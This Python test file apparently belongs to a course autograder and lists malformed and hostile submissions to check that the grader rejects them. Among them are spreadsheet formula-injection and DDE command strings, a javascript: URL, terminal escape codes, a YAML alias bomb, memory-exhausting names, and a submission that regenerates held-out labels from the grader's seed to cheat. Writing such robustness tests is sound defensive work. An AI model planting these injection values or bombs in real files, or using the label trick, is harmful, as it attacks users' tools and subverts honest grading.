BIG = 65 * 2**20
MALFORMED = [
    Case("syntax_error", "malformed", "a syntax error in manual.py",
         _edit("manual.py", [("def forward(params", "def forward(params,, ")]),
         attacked={check: r"manual.py:\d+: SyntaxError" for check in (*MANUAL, R)}),
    Case("missing_function_wrong_signature", "malformed", "softmax renamed soft_max; init_params(sizes)",
         _edit("manual.py", [("def softmax(Z", "def soft_max(Z"), ("yhat = softmax(ytilde)", "yhat = soft_max(ytilde)")],
               append="\n\ndef init_params(sizes):\n    return {}\n"),
         attacked={S: r"manual.py has no function softmax\(\)", I: "cannot be called as the handout specifies"}),
    Case("wrong_return_types", "malformed", "forward returns None, init_params lists, loss_accuracy a list",
         folder(append={"manual.py": '''
             def forward(params, X):
                 return None


             def init_params(nx, nh, ny, generator=None):
                 return {"Wh": [[0.0] * nx] * nh, "bh": [0.0] * nh, "Wy": [[0.0] * nh] * ny, "by": [0.0] * ny}


             def loss_accuracy(Yhat, Y):
                 return [0.0, 1.0]
             '''}),
         attacked={F: r"should return a tuple \(Yhat, outputs\)", I: "should be a torch.Tensor, got list",
                   L: r"should return a tuple \(L, acc\)"}),
    Case("wrong_values", "malformed", "int64 dtype (init_params), transposed shape (forward), NaN loss and "
         "infinite accuracy (loss_accuracy), meta device (sgd)",
         folder(append={"manual.py": '''
             _honest_forward = forward


             def init_params(nx, nh, ny, generator=None):
                 return {"Wh": torch.zeros(nh, nx, dtype=torch.int64), "bh": torch.zeros(nh, dtype=torch.int64),
                         "Wy": torch.zeros(ny, nh, dtype=torch.int64), "by": torch.zeros(ny, dtype=torch.int64)}


             def forward(params, X):
                 yhat, outputs = _honest_forward(params, X)
                 return yhat.T, outputs


             def loss_accuracy(Yhat, Y):
                 return torch.tensor(float("nan")), float("inf")


             def sgd(params, grads, eta):
                 return {name: torch.empty(value.shape, device="meta") for name, value in params.items()}
             '''}),
         attacked={I: "should hold floating point values, got dtype int64", F: "should have shape|differs",
                   L: "is nan, expected a finite number", G: "meta"}),
    Case("non_utf8_source", "malformed", "manual.py in Latin-1 (a comment with accents)", _non_utf8,
         attacked={**{check: "SyntaxError.*(utf-8|UTF-8)" for check in MANUAL}, R: "not valid UTF-8 text"}),
    Case("notebook_in_folder", "malformed", "a notebook with invalid JSON beside good modules",
         folder(files={"tp1_mlp.ipynb": "{\"cells\": [ this is not json", "notes.ipynb": b"\xff\xfe\x00"})),
    Case("nested_layout", "malformed", "zip with the modules two folders down and an old draft at the top",
         zipped(_nested)),
    Case("huge_data_file", "malformed", "a 65 MiB checkpoint beside good modules", _huge("checkpoint.pt", BIG)),
    Case("huge_module", "malformed", "a 65 MiB manual.py", _huge("manual.py", BIG),
         refused="manual.py is larger than 64 MiB"),
    Case("notebook_only", "malformed", "only a notebook, and not valid JSON",
         _write("tp1_mlp.ipynb", b'{"cells": [}'), refused="not the notebook.*not a valid notebook"),
    Case("empty_zip", "malformed", "a zip with no entry", zipped(lambda context: []), refused="empty zip file"),
    Case("not_a_zip", "malformed", "a .zip that is not a zip", _write("broken.zip", b"PK\x03\x04 truncated"),
         refused="neither a folder nor a zip"),
    Case("no_expected_module", "malformed", "modules under other names (Manual.py, NN.py)",
         folder(TEMPLATE, files={"Manual.py": "x = 1\n", "NN.py": "x = 1\n"},
                remove=("data.py", "manual.py", "autograd_mlp.py", "nn_mlp.py", "optim_mlp.py", "train.py", "svm.py")),
         refused=r"none of the expected modules .* \(it holds: Manual.py, NN.py"),
]



# --- outputs and the grader's memory (issue 18, classes 3 to 5) -----------------------------------------

def _answers(text: str) -> Callable[[Path, dict], Path]:
    """The solution whose answers.yml is ``text``."""
    return folder(files={"answers.yml": text})


ALIAS_BOMB = "a: &a [1, 1, 1, 1, 1, 1, 1, 1, 1]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(7)) + "q4_nx: *h\n"
LONG_NAMES = '''
import torch as _torch


def make_model(nx, nh, ny):
    layer = type("T" * 2_000_000, (_torch.nn.Tanh,), {})
    return _torch.nn.Sequential(_torch.nn.Linear(nx, nh), layer(), _torch.nn.Linear(nh, ny))
'''
LONG_KEYS = '''
_honest_forward = forward


def forward(params, X):
    yhat, outputs = _honest_forward(params, X)
    return yhat, {**outputs, "k" * 9_000_000: yhat}
'''
#: names a class folder may hold that must not become class files, formulas, links or terminal commands
HOSTILE_NAMES = ("grades.csv", "index.html", "=HYPERLINK(\"http://127.0.0.1\",\"x\")", "+1+cmd|' -C calc'!A0",
                 "@SUM(1)", "-2+3", "javascript:alert(1)", "\x1b[2J\x1b[31mred\nzz_fake 32/32")

BOUNDS = [
    Case("alias_bomb_answers", "malformed", "answers.yml of 0.3 KiB whose aliases nest 8 levels (9^8 values)",
         _answers(ALIAS_BOMB), attacked={ANSWERS: "anchors and aliases"}),
    Case("anchor_only_answers", "malformed", "answers.yml with an anchor on an answer, no alias",
         _answers("q4_nx: &n 2\n"), attacked={ANSWERS: "anchors and aliases"}),
    Case("huge_integer_answers", "malformed", "a 5000-digit integer as an answer (past Python's int limit)",
         _answers("q4_nx: " + "7" * 5000 + "\n"), attacked={ANSWERS: "could not be read.*digits"}),
    Case("large_integer_answers", "malformed", "a 400-digit integer (beyond float) and 1e999 as answers",
         _answers("q4_nx: " + "7" * 400 + "\nq4_nh: 1.0e+999\n"),
         attacked={ANSWERS: r"q4_nx.*expected a number, got 7{20}.*\.\.\..*q4_nh.*expected a number"}),
    Case("huge_source_list", "malformed", "manual.py over 256 KiB: one list literal appended (+2 GiB in ast.parse at 5.7 MB)",
         folder(append={"manual.py": "_TABLE = [" + "[]," * 100_000 + "]\n"}),
         attacked={R: "manual.py is larger than 256 KiB"}),
    Case("long_layer_name", "malformed", "a layer class named with 2 MB (quoted by the structure judge)",
         folder(append={"nn_mlp.py": LONG_NAMES}), attacked={N: "layer #2 is T+.*more characters cut"}),
    Case("long_reply_key", "malformed", "forward's outputs with a 9 MB key (a reply over the JSON cap)",
         folder(append={"manual.py": LONG_KEYS}), attacked={F: "plain-data part is larger than 8 MiB"}),
    *(Case(name, "malformed", f"a submission named {name!r} (an empty zip)", zipped(lambda context: []),
           refused="empty zip file") for name in HOSTILE_NAMES),
]

CASES = HOSTILE + MALFORMED + BOUNDS

#: Seed regeneration: the circles check sends the worker the seed its held-out points were drawn from.
REGENERATE_LABELS = Case(
    "regenerate_held_out_labels", "hostile",
    "train_manual rebuilds the grader's circles split from the seed it receives and looks labels up",
    lambda target, context: folder(files={"train.py": _regenerate_labels_train(context)})(target, context),
    attacked={"test_accuracy.py::test_circles[manual]": ""})

